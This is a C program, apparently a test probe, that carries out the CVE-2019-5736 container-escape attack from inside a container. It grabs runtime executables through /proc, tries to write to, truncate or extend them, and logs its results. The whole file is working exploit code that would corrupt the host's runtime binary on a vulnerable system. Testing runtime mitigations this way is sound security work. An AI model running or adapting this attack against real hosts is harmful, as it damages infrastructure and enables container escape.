/*
 * The attack of CVE-2019-5736, from inside a container as pid 1: gets a descriptor of the executable of every process of
 * the runtime that enters, and keeps trying to open it for writing, also after the process has ended, when the kernel no
 * longer says ETXTBSY. /tried tells that there was something to try, /written what it could write to.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define HELD 16

static int held[HELD];
static unsigned next;

static void append(const char *file, const char *text) {
    int fd = open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    dprintf(fd, "%s\n", text);
    close(fd);
}

static void attack(int fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int out = open(path, O_RDWR | O_CLOEXEC);
    if (out < 0)
        return;
    /* A write seal lets it be opened for writing and nothing more. */
    if (pwrite(out, "#", 1, 0) == 1 || ftruncate(out, 0) == 0 || fallocate(out, 0, 1 << 24, 1) == 0)
        append("/written", path);
    close(out);
}

static void take(int pid) {
    char path[64], target[PATH_MAX] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    /* Of the image? */
    if (length < 0 || strncmp(target, "/bin/", 5) == 0)
        return;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    /* It may have become a program of the image since. */
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = '\0';
    if (strncmp(target, "/bin/", 5) == 0) {
        close(fd);
        return;
    }
    append("/tried", target);
    close(held[next % HELD]);
    held[next++ % HELD] = fd;
}

int main(void) {
    for (int i = 0; i < HELD; i++)
        held[i] = -1;
    append("/ready", "");
    DIR *proc = opendir("/proc");
    for (;;) {
        rewinddir(proc);
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid > 1)
                take(pid);
        }
        for (int i = 0; i < HELD; i++) {
            if (held[i] >= 0)
                attack(held[i]);
        }
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
